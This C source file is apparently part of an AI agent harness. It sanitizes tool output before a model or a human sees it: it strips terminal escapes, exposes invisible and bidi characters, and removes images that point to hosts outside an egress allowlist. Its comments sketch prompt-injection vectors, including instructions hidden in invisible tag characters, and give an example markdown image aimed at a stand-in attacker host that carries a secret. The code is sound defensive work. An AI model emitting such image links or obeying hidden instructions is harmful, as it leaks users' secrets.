/* server/sanitize: text handed to a model, made safe to show.
 *
 * What a command prints, and what a file holds, may have been written by
 * an attacker (a prompt injection in a README, a poisoned test fixture).
 * Before it reaches the model, and the human reading the transcript in a
 * terminal:
 *
 *  - terminal control sequences are removed: CSI (ESC [ ... final), OSC
 *    (ESC ] ... BEL|ST: window titles, OSC 8 hyperlinks whose visible text
 *    hides their target, OSC 52 clipboard writes), DCS/SOS/PM/APC strings
 *    and two- and three-byte escapes (ESC c resets the terminal);
 *  - other C0 controls and DEL are shown as \xNN, C1 controls (U+0080 to
 *    U+009F, which some terminals take as CSI), the bidirectional
 *    overrides of "Trojan Source" (CVE-2021-42574: U+202A-U+202E,
 *    U+2066-U+2069) and what is drawn as nothing (visible_cp) as
 *    \uNNNN, or \UNNNNNNNN above U+FFFF;
 *  - "\r\n" becomes "\n" and a lone "\r" (a progress bar redrawing its
 *    line) a newline, so overwritten text is not hidden;
 *  - bytes that are not valid UTF-8 are shown as \xNN, never replaced by
 *    U+FFFD: a replacement character hides what the bytes were, and the
 *    model should see that the output was binary.
 *
 * The escapes are text, so a file that literally holds "\x9f" looks the
 * same; the harness's JSON-RPC methods return bytes unsanitised.
 *
 * Streaming: with final false, an incomplete UTF-8 sequence or escape
 * sequence at the end of a chunk is not consumed, and the caller prepends
 * it to the next chunk. */
#include "server/sanitize.h"
#include "server/base.h"

#include <string.h>
#include <strings.h>

struct out {
	char *p;
	size_t len, cap;
};

static void
put(struct out *o, const char *s, size_t n)
{
	if (o->len + n + 1 > o->cap) {
		o->cap = (o->len + n + 1) * 2;
		o->p = xrealloc(o->p, o->cap);
	}
	memcpy(o->p + o->len, s, n);
	o->len += n;
	o->p[o->len] = '\0';
}

static void
put_hex(struct out *o, unsigned char c)
{
	static const char hex[] = "0123456789abcdef";
	char b[4] = {'\\', 'x', hex[c >> 4], hex[c & 15]};
	put(o, b, 4);
}

static void
put_u(struct out *o, unsigned cp)
{
	static const char hex[] = "0123456789abcdef";
	/* \uNNNN, or \UNNNNNNNN above the basic plane */
	int digits = cp > 0xffff ? 8 : 4;
	char b[10] = {'\\', cp > 0xffff ? 'U' : 'u'};
	for (int k = 0; k < digits; k++)
		b[2 + k] = hex[(cp >> (4 * (digits - 1 - k))) & 15];
	put(o, b, (size_t)(2 + digits));
}

/* Length of the valid UTF-8 sequence at s (n bytes left), 0 if invalid,
 * -1 if it may be valid but is cut short.  *cp gets the code point. */
static int
utf8_len(const unsigned char *s, size_t n, unsigned *cp)
{
	unsigned c = s[0];
	int len;
	unsigned lo = 0x80, hi = 0xbf;
	if (c >= 0xc2 && c <= 0xdf)
		len = 2;
	else if (c >= 0xe0 && c <= 0xef)
		len = 3;
	else if (c >= 0xf0 && c <= 0xf4)
		len = 4;
	else
		return 0;
	/* the second byte's range excludes overlongs, surrogates and > U+10FFFF */
	if (c == 0xe0)
		lo = 0xa0;
	else if (c == 0xed)
		hi = 0x9f;
	else if (c == 0xf0)
		lo = 0x90;
	else if (c == 0xf4)
		hi = 0x8f;
	unsigned v = c & (0xff >> (len + 1));
	for (int i = 1; i < len; i++) {
		if ((size_t)i >= n)
			return -1;
		unsigned b = s[i];
		if (b < (i == 1 ? lo : 0x80) || b > (i == 1 ? hi : 0xbf))
			return 0;
		v = (v << 6) | (b & 0x3f);
	}
	*cp = v;
	return len;
}

/* Length of the escape sequence at s (s[0] == ESC), 0 when it is not one
 * (drop the ESC alone), -1 when cut short.  STRING_MAX bounds OSC and the
 * other strings: a longer one is not a sequence any terminal would keep. */
#define CSI_MAX 256
#define STRING_MAX 8192
static long
escape_len(const unsigned char *s, size_t n)
{
	if (n < 2)
		return -1;
	unsigned char k = s[1];
	if (k == '[') {
		for (size_t i = 2; i < n && i < CSI_MAX; i++) {
			if (s[i] >= 0x40 && s[i] <= 0x7e)
				return (long)i + 1;
			if (s[i] < 0x20 || s[i] > 0x3f)
				return (long)i; /* broken: drop what came so far */
		}
		return n < CSI_MAX ? -1 : 2;
	}
	if (k == ']' || k == 'P' || k == 'X' || k == '^' || k == '_') {
		for (size_t i = 2; i < n && i < STRING_MAX; i++) {
			if (s[i] == 0x07)
				return (long)i + 1;
			if (s[i] == 0x1b && i + 1 < n && s[i + 1] == '\\')
				return (long)i + 2;
			if (s[i] == 0x1b && i + 1 >= n)
				return -1;
		}
		return n < STRING_MAX ? -1 : 2;
	}
	if (k >= 0x20 && k <= 0x2f) {
		for (size_t i = 2; i < n && i < 8; i++) {
			if (s[i] >= 0x30 && s[i] <= 0x7e)
				return (long)i + 1;
			if (s[i] < 0x20 || s[i] > 0x2f)
				return (long)i;
		}
		return n < 8 ? -1 : 2;
	}
	if (k >= 0x30 && k <= 0x7e)
		return 2;
	return 1;
}

/* Why: besides C1 and the bidi controls, what a terminal or a chat view
 * draws as nothing carries text no human reading the transcript sees
 * (plane 14's tag characters are an invisible copy of ASCII: a file can
 * hold an instruction for the model that way).  The set of util/escape.c
 * (which front ends cannot include), less U+FE0E and U+FE0F, the emoji
 * presentation selectors test runners print after a check mark. */
static bool
visible_cp(unsigned cp)
{
	return !((cp >= 0x80 && cp <= 0x9f) || cp == 0x00ad || cp == 0x034f || cp == 0x061c ||
		 cp == 0x115f || cp == 0x1160 || cp == 0x17b4 || cp == 0x17b5 ||
		 (cp >= 0x180b && cp <= 0x180f) || (cp >= 0x200b && cp <= 0x200f) ||
		 (cp >= 0x2028 && cp <= 0x202e) || (cp >= 0x2060 && cp <= 0x206f) || cp == 0x3164 ||
		 (cp >= 0xfe00 && cp <= 0xfe0d) || cp == 0xfeff || cp == 0xffa0 ||
		 (cp >= 0xfff9 && cp <= 0xfffb) || (cp >= 0x1bca0 && cp <= 0x1bca3) ||
		 (cp >= 0x1d173 && cp <= 0x1d17a) || (cp >= 0xe0000 && cp <= 0xe0fff));
}

char *
sanitize_text(const char *buf, size_t len, bool final, size_t *consumed, size_t *out_len)
{
	const unsigned char *s = (const unsigned char *)buf;
	struct out o = {xmalloc(len + 16), 0, len + 16};
	o.p[0] = '\0';
	size_t i = 0;
	while (i < len) {
		unsigned char c = s[i];
		if (c == 0x1b) {
			long n = escape_len(s + i, len - i);
			if (n < 0 && !final)
				break;
			i += n < 0 ? 1 : (size_t)n;
			continue;
		}
		if (c == '\r') {
			if (i + 1 >= len && !final)
				break;
			put(&o, "\n", 1);
			i += (i + 1 < len && s[i + 1] == '\n') ? 2 : 1;
			continue;
		}
		if (c == '\n' || c == '\t' || (c >= 0x20 && c < 0x7f)) {
			size_t j = i + 1;
			while (j < len &&
			       ((s[j] >= 0x20 && s[j] < 0x7f) || s[j] == '\n' || s[j] == '\t'))
				j++;
			put(&o, buf + i, j - i);
			i = j;
			continue;
		}
		if (c < 0x80) {
			put_hex(&o, c);
			i++;
			continue;
		}
		unsigned cp = 0;
		int n = utf8_len(s + i, len - i, &cp);
		if (n < 0 && !final)
			break;
		if (n <= 0) {
			put_hex(&o, c);
			i++;
		} else {
			if (visible_cp(cp))
				put(&o, buf + i, (size_t)n);
			else
				put_u(&o, cp);
			i += (size_t)n;
		}
	}
	if (consumed)
		*consumed = i;
	if (out_len)
		*out_len = o.len;
	return o.p;
}

/* ---- markdown images to hosts outside the egress allowlist ----
 * A model that renders ![x](https://attacker/?d=SECRET) in a chat UI makes
 * the UI fetch the URL: the secret leaves without any tool call.  The
 * image's URL is replaced by a note when its host is not allowed. */

static bool
host_allowed(const char *host, size_t hl, const char *const *allow, size_t nallow)
{
	for (size_t i = 0; i < nallow; i++) {
		const char *p = allow[i];
		if (p[0] == '*' && p[1] == '.') {
			size_t sl = strlen(p + 1); /* ".suffix" */
			if (hl > sl && !strncasecmp(host + hl - sl, p + 1, sl))
				return true;
		} else if (strlen(p) == hl && !strncasecmp(host, p, hl)) {
			return true;
		}
	}
	return false;
}

/* The host of an absolute http(s) or protocol-relative URL at u (n bytes),
 * or NULL (relative, data:, ...). */
static const char *
url_host(const char *u, size_t n, size_t *hl)
{
	size_t skip;
	if (n > 8 && !strncasecmp(u, "https://", 8))
		skip = 8;
	else if (n > 7 && !strncasecmp(u, "http://", 7))
		skip = 7;
	else if (n > 2 && u[0] == '/' && u[1] == '/')
		skip = 2;
	else
		return NULL;
	const char *h = u + skip, *end = u + n;
	const char *stop = h;
	while (stop < end && *stop != '/' && *stop != '?' && *stop != '#')
		stop++;
	const char *at = memrchr(h, '@', (size_t)(stop - h));
	if (at)
		h = at + 1;
	const char *e = h;
	if (e < stop && *e == '[') {
		while (e < stop && *e != ']')
			e++;
		if (e < stop)
			e++;
	} else {
		while (e < stop && *e != ':')
			e++;
	}
	*hl = (size_t)(e - h);
	return h;
}

static void
note(struct out *o, const char *host, size_t hl)
{
	put(o, "image removed: ", 15);
	put(o, host, hl > 200 ? 200 : hl);
	put(o, " is not in the egress allowlist", 31);
}

char *
sanitize_images(const char *text, const char *const *allow, size_t nallow)
{
	size_t len = strlen(text);
	struct out o = {xmalloc(len + 1), 0, len + 1};
	o.p[0] = '\0';
	size_t i = 0;
	while (i < len) {
		const char *bang = strstr(text + i, "![");
		const char *img = strcasestr(text + i, "<img");
		const char *next = bang && (!img || bang < img) ? bang : img;
		if (!next) {
			put(&o, text + i, len - i);
			break;
		}
		size_t at = (size_t)(next - text);
		put(&o, text + i, at - i);
		i = at;
		const char *u = NULL;
		size_t un = 0;
		if (next == bang) {
			/* ![alt](URL "title"): alt without a newline or ']', bounded */
			const char *close =
			    memchr(text + i + 2, ']', len - i - 2 < 1000 ? len - i - 2 : 1000);
			if (close && close[1] == '(' &&
			    !memchr(text + i, '\n', (size_t)(close - text) - i)) {
				u = close + 2;
				while (*u == ' ' || *u == '<')
					u++;
				un = strcspn(u, " )>\n\t\"");
			}
		} else {
			const char *tag_end = strchr(text + i, '>');
			const char *src = strcasestr(text + i, "src=");
			if (tag_end && src && src < tag_end) {
				u = src + 4;
				if (*u == '"' || *u == '\'')
					u++;
				un = strcspn(u, " \"'>");
			}
		}
		size_t hl = 0;
		const char *host = u ? url_host(u, un, &hl) : NULL;
		if (!host || host_allowed(host, hl, allow, nallow)) {
			/* not an image to a foreign host: keep the marker, move on */
			put(&o, text + i, 1);
			i++;
			continue;
		}
		size_t ustart = (size_t)(u - text);
		put(&o, text + i, ustart - i);
		note(&o, host, hl);
		i = ustart + un;
	}
	return o.p;
}

/* For a program (the harness methods): every byte as it was, except that
 * bytes that are not valid UTF-8 become \xNN (a JSON string must be
 * UTF-8).  Streaming as sanitize_text(). */
char *
utf8_visible(const char *buf, size_t len, bool final, size_t *consumed, size_t *out_len)
{
	const unsigned char *s = (const unsigned char *)buf;
	struct out o = {xmalloc(len + 16), 0, len + 16};
	o.p[0] = '\0';
	size_t i = 0;
	while (i < len) {
		size_t j = i;
		while (j < len && s[j] < 0x80)
			j++;
		put(&o, buf + i, j - i);
		i = j;
		if (i >= len)
			break;
		unsigned cp = 0;
		int n = utf8_len(s + i, len - i, &cp);
		if (n < 0 && !final)
			break;
		if (n <= 0) {
			put_hex(&o, s[i]);
			i++;
		} else {
			put(&o, buf + i, (size_t)n);
			i += (size_t)n;
		}
	}
	if (consumed)
		*consumed = i;
	if (out_len)
		*out_len = o.len;
	return o.p;
}

/* structuredContent is read by the model as much as the text is (a client
 * may show either, and run_command puts the output windows in both): every
 * string in it, at any depth, gets what the text gets.  Object keys are
 * warden's own. */
void
sanitize_images_json(json_t *v, const char *const *allow, size_t nallow)
{
	size_t i;
	const char *k;
	json_t *m;
	if (json_is_object(v)) {
		json_object_foreach(v, k, m)
		{
			if (json_is_string(m)) {
				char *safe = sanitize_images(json_string_value(m), allow, nallow);
				json_object_set_new(v, k, json_string(safe));
				free(safe);
			} else {
				sanitize_images_json(m, allow, nallow);
			}
		}
	} else if (json_is_array(v)) {
		json_array_foreach(v, i, m)
		{
			if (json_is_string(m)) {
				char *safe = sanitize_images(json_string_value(m), allow, nallow);
				json_array_set_new(v, i, json_string(safe));
				free(safe);
			} else {
				sanitize_images_json(m, allow, nallow);
			}
		}
	}
}
